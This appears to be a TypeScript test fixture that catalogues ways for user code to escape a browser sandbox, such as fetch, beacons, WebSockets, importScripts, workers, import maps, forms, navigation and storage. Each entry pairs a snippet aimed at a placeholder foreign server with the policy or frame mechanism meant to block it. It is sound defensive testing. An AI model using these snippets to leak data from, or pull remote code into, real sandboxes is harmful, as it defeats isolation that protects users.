// All ways out of the sandbox, the mechanism that blocks each, and the code that tries it. sandbox.spec.ts tries all.
// The table of docs/sandbox.md is made of them (test/unit/ways-out.test.ts).

/** The mechanisms that block a way. */
const MEETS = {
  absent: "workers do not have it",
  policy: "the frame's policy, which its workers inherit",
  origin: "an origin of its own, which has no such thing",
  frame: "the frame's `sandbox` attribute",
  gesture: "no permission: the frame has none to give, and nobody presses anything in it",
  alone: "nobody hears it: nothing else has that origin",
} as const;

export interface Way {
  readonly meets: keyof typeof MEETS;
  /**
   * The body of an asynchronous function. It must fail or return something other than "ok". `out` is an address of a
   * foreign server, `site` is one of the page's site.
   */
  readonly does: string;
}

/** From the worker that runs the user's code. */
export const FROM_CODE: Readonly<Record<string, Way>> = {
  fetch: { meets: "policy", does: `await fetch(out); return "ok";` },
  "fetch without CORS": {
    meets: "policy",
    does: `await fetch(out, { mode: "no-cors" }); return "ok";`,
  },
  "fetch that outlives its page": {
    meets: "policy",
    does: `await fetch(out, { mode: "no-cors", keepalive: true }); return "ok";`,
  },
  "deferred fetch": { meets: "absent", does: `fetchLater(out); return "ok";` },
  "fetch of the site": { meets: "policy", does: `await fetch(site); return "ok";` },
  XMLHttpRequest: {
    meets: "policy",
    does: `const x = new XMLHttpRequest(); x.open("GET", out, false); x.send(); return "ok";`,
  },
  WebSocket: {
    meets: "policy",
    does: `return new Promise((resolve, reject) => {
      const socket = new WebSocket(out.replace("http", "ws"));
      socket.onopen = () => resolve("ok"); socket.onerror = () => reject(new Error("refused"));
    });`,
  },
  WebSocketStream: {
    meets: "policy",
    does: `await new WebSocketStream(out.replace("http", "ws")).opened; return "ok";`,
  },
  EventSource: {
    meets: "policy",
    does: `return new Promise((resolve, reject) => {
      const source = new EventSource(out);
      source.onopen = () => resolve("ok");
      source.onerror = () => { source.close(); reject(new Error("refused")); };
    });`,
  },
  WebTransport: {
    meets: "policy",
    does: `const t = new WebTransport(out.replace("http:", "https:")); await t.ready; return "ok";`,
  },
  WebRTC: { meets: "absent", does: `new RTCPeerConnection(); return "ok";` },
  beacon: { meets: "absent", does: `return navigator.sendBeacon(out) ? "ok" : "refused";` },
  image: { meets: "absent", does: `const image = new Image(); image.src = out; return "ok";` },
  media: {
    meets: "absent",
    does: `const sound = new Audio(out); await sound.play(); return "ok";`,
  },
  font: {
    meets: "policy",
    does: `const font = new FontFace("leak", "url(" + out + ")"); await font.load(); return "ok";`,
  },
  "style sheet": {
    meets: "absent",
    does: `const sheet = new CSSStyleSheet(); await sheet.replace("@import '" + out + "'"); return "ok";`,
  },
  "elements that load (preload, prefetch, speculation rules, import maps, frames, forms, downloads)":
    {
      meets: "absent",
      does: `document.createElement("link"); return "ok";`,
    },
  importScripts: { meets: "policy", does: `importScripts(out); return "ok";` },
  "import of a blob that imports": {
    meets: "policy",
    does: `return hidden('import "' + out + '";');`,
  },
  "worker of an address": { meets: "policy", does: `return started(new Worker(out));` },
  "worker of the site": { meets: "policy", does: `return started(new Worker(site));` },
  "worker of a data: address": {
    meets: "policy",
    does: `return started(new Worker("data:text/javascript,postMessage('ok')"));`,
  },
  "worker that fetches": {
    meets: "policy",
    does: `return worker("fetch(OUT, { mode: 'no-cors' }).then(() => postMessage('ok'), () => postMessage('refused'))");`,
  },
  "worker that imports": {
    meets: "policy",
    does: `return worker("import(OUT).then(() => postMessage('ok'), () => postMessage('refused'))");`,
  },
  "worker that loads scripts": {
    meets: "policy",
    does: `return worker("importScripts(OUT); postMessage('ok')");`,
  },
  "shared worker": { meets: "absent", does: `new SharedWorker(out); return "ok";` },
  "service worker": {
    meets: "origin",
    does: `await navigator.serviceWorker.register(site); return "ok";`,
  },
  "report of violations": {
    meets: "absent",
    does: `document.head.append("report-to"); return "ok";`,
  },
  "navigation of itself": {
    meets: "absent",
    does: `location.href = out; return location.href === out ? "ok" : "refused";`,
  },
  "navigation of the parent": { meets: "absent", does: `parent.location = out; return "ok";` },
  "navigation of the top": { meets: "absent", does: `top.location = out; return "ok";` },
  windows: { meets: "absent", does: `open(out); return "ok";` },
  "the page's document": {
    meets: "absent",
    does: `return parent.document ? "ok" : "refused";`,
  },
  "messages to every window": {
    meets: "absent",
    does: `parent.postMessage("leak", "*"); return "ok";`,
  },
  BroadcastChannel: {
    meets: "alone",
    does: `new BroadcastChannel("leak").postMessage("from the sandbox"); return "unheard";`,
  },
  cookies: { meets: "origin", does: `await cookieStore.set("leak", "1"); return "ok";` },
  "local and session storage": {
    meets: "absent",
    does: `localStorage.setItem("leak", "1"); return "ok";`,
  },
  IndexedDB: {
    meets: "origin",
    does: `return new Promise((resolve, reject) => {
      const open = indexedDB.open("leak");
      open.onsuccess = () => resolve("ok"); open.onerror = () => reject(open.error);
    });`,
  },
  caches: { meets: "origin", does: `await caches.open("leak"); return "ok";` },
  "private files": {
    meets: "origin",
    does: `await navigator.storage.getDirectory(); return "ok";`,
  },
  "shared storage": {
    meets: "absent",
    does: `await sharedStorage.set("leak", "1"); return "ok";`,
  },
  locks: { meets: "origin", does: `await navigator.locks.request("leak", () => 1); return "ok";` },
  clipboard: { meets: "absent", does: `await navigator.clipboard.writeText("leak"); return "ok";` },
  fullscreen: {
    meets: "absent",
    does: `await document.documentElement.requestFullscreen(); return "ok";`,
  },
  "pointer lock": {
    meets: "absent",
    does: `await document.body.requestPointerLock(); return "ok";`,
  },
  sensors: { meets: "absent", does: `new Accelerometer().start(); return "ok";` },
  location: {
    meets: "absent",
    does: `navigator.geolocation.getCurrentPosition(() => {}); return "ok";`,
  },
  "camera and microphone": {
    meets: "absent",
    does: `await navigator.mediaDevices.getUserMedia({ audio: true }); return "ok";`,
  },
  payment: {
    meets: "absent",
    does: `new PaymentRequest([{ supportedMethods: out }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }); return "ok";`,
  },
  notifications: {
    meets: "gesture",
    does: `return Notification.permission === "granted" ? "ok" : "refused";`,
  },
  "USB, serial and HID devices": {
    meets: "gesture",
    does: `const all = await Promise.all([navigator.usb, navigator.serial, navigator.hid].map((each) => each?.getDevices?.() ?? each?.getPorts?.() ?? []));
      return all.flat().length > 0 ? "ok" : "refused";`,
  },
  eval: { meets: "policy", does: `return (0, eval)("'ok'");` },
  Function: { meets: "policy", does: `return new Function("return 'ok'")();` },
};

/** From the frame around the worker. The user's code never runs there; these ways show what would remain if it did. */
export const FROM_FRAME: Readonly<Record<string, Way>> = {
  fetch: { meets: "policy", does: `await fetch(out, { mode: "no-cors" }); return "ok";` },
  image: { meets: "policy", does: `await loads("img", { src: out }); return "ok";` },
  media: {
    meets: "policy",
    does: `await loads("video", { src: out }, "loadeddata"); return "ok";`,
  },
  script: { meets: "policy", does: `await loads("script", { src: out }); return "ok";` },
  "style sheet": {
    meets: "policy",
    does: `await loads("link", { rel: "stylesheet", href: out }); return "ok";`,
  },
  "style sheet that imports": {
    meets: "policy",
    does: `const style = element("style", {}); style.textContent = "@import url(" + out + "); body { background: url(" + out + ") }";
      document.body.append(style); return style.sheet?.cssRules.length ? "ok" : "refused";`,
  },
  font: {
    meets: "policy",
    does: `await new FontFace("leak", "url(" + out + ")").load(); return "ok";`,
  },
  prefetch: {
    meets: "policy",
    does: `await loads("link", { rel: "prefetch", href: out }); return "ok";`,
  },
  preload: {
    meets: "policy",
    does: `await loads("link", { rel: "preload", as: "image", href: out }); return "ok";`,
  },
  "module preload": {
    meets: "policy",
    does: `await loads("link", { rel: "modulepreload", href: out }); return "ok";`,
  },
  "speculation rules": {
    meets: "policy",
    does: `return inline("speculationrules", JSON.stringify({ prefetch: [{ urls: [out] }], prerender: [{ urls: [out] }] }));`,
  },
  "import map": {
    meets: "policy",
    does: `inline("importmap", JSON.stringify({ imports: { leak: out } })); await import("leak"); return "ok";`,
  },
  "script of its own": {
    meets: "policy",
    does: `return inline("text/javascript", "window.ran = true");`,
  },
  windows: { meets: "frame", does: `return open(out) === null ? "refused" : "ok";` },
  "the page's document": { meets: "origin", does: `return parent.document ? "ok" : "refused";` },
  "navigation of the parent": { meets: "frame", does: `parent.location.assign(out); return "ok";` },
  "navigation of the top": { meets: "frame", does: `top.location.assign(out); return "ok";` },
  "frame of an address": {
    meets: "policy",
    does: `document.body.append(element("iframe", { src: out })); return "refused";`,
  },
  form: {
    meets: "frame",
    does: `const form = element("form", { action: out }); document.body.append(form); form.submit(); return "refused";`,
  },
  download: {
    meets: "frame",
    does: `element("a", { href: URL.createObjectURL(new Blob(["leak"])), download: "leak" }).click(); return "refused";`,
  },
  "links and their pings": {
    meets: "frame",
    does: `element("a", { href: out, ping: out, target: "_blank" }).click(); return "refused";`,
  },
  cookies: {
    meets: "origin",
    does: `document.cookie = "leak=1"; return document.cookie === "" ? "refused" : "ok";`,
  },
  "local and session storage": { meets: "origin", does: `localStorage.length; return "ok";` },
  IndexedDB: { meets: "origin", does: `indexedDB.open("leak"); return "ok";` },
  clipboard: {
    meets: "gesture",
    does: `await navigator.clipboard.writeText("leak"); return "ok";`,
  },
  fullscreen: {
    meets: "gesture",
    does: `await document.documentElement.requestFullscreen(); return "ok";`,
  },
  "pointer lock": {
    meets: "frame",
    does: `await document.body.requestPointerLock(); return "ok";`,
  },
  location: {
    meets: "gesture",
    does: `return new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve("ok"), reject));`,
  },
  "camera and microphone": {
    meets: "gesture",
    does: `await navigator.mediaDevices.getUserMedia({ audio: true }); return "ok";`,
  },
  payment: {
    meets: "gesture",
    does: `const total = { label: "x", amount: { currency: "EUR", value: "1" } };
      await new PaymentRequest([{ supportedMethods: out }], { total }).show(); return "ok";`,
  },
  dialogs: { meets: "frame", does: `return confirm("leak") ? "ok" : "refused";` },
};

/** The Markdown table of one kind of ways. */
export function tableOf(ways: Readonly<Record<string, Way>>): string {
  const rows = Object.entries(ways).map(([name, { meets }]) => `| ${name} | ${MEETS[meets]} |`);
  return ["| way out | what it meets |", "| --- | --- |", ...rows].join("\n");
}
